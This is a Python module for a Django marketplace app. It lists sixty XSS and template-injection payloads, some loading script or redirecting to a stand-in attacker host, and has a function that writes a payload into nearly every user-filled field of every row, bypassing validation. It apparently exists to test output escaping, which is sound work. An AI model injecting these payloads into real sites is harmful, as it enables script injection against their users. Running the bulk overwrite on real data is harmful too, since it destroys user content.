"""Sixty texts that would run, load or draw something where a page took them for markup, and a way to write them everywhere."""

from django.db.models import F

from apps.accounts.models import CustomUser, Profile
from apps.chat.models import Message
from apps.listings.models import Game, Listing
from apps.notifications.models import Notification
from apps.transactions.models import PurchaseRequest, Review

PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x",
    "<svg><style><img src=x onerror=alert(1)>",
    "<math><mtext></p><style><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=background:url(//evil.example)>x",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=`alert(1)",
    "javascript:alert(1)",
    "{{ 7*7 }}{% debug %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    'https://x.example/"onmouseover=alert(1)//<svg/onload=alert(1)>',
]


def put(text: str) -> None:
    """Into every field of every row that anybody fills in, past all checks."""
    Listing.objects.update(title=text[:200], description=text)
    PurchaseRequest.objects.update(title=text[:200], message=text)
    Profile.objects.update(bio=text, telegram=text[:32], discord=text[-32:])
    CustomUser.objects.update(first_name=text[:60], last_name=text[-60:])
    Review.objects.update(comment=text)
    Message.objects.filter(kind="text").update(content=text)
    Notification.objects.update(words={"who": text, "title": text, "rating": 5})
    Game.objects.update(name=text[:100], slug=F("slug"))
